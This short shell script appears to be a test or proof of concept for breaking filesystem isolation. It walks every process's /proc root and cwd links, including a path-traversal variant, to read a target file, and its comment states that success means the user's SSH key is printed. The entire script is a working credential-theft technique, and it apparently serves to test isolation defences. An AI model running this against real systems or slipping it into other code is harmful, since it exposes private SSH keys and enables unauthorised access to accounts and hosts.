#!/bin/sh
# Goes through the root and working directories of processes, its own too. Success: the user's SSH key is printed.
for process in 1 self thread-self "$T_VICTIM" /proc/[0-9]*; do
    process=/proc/${process#/proc/}
    cat "$process/root$T_KEY" "$process/cwd/../../../../../../../../..$T_KEY"
done 2>/dev/null | sort -u | grep .
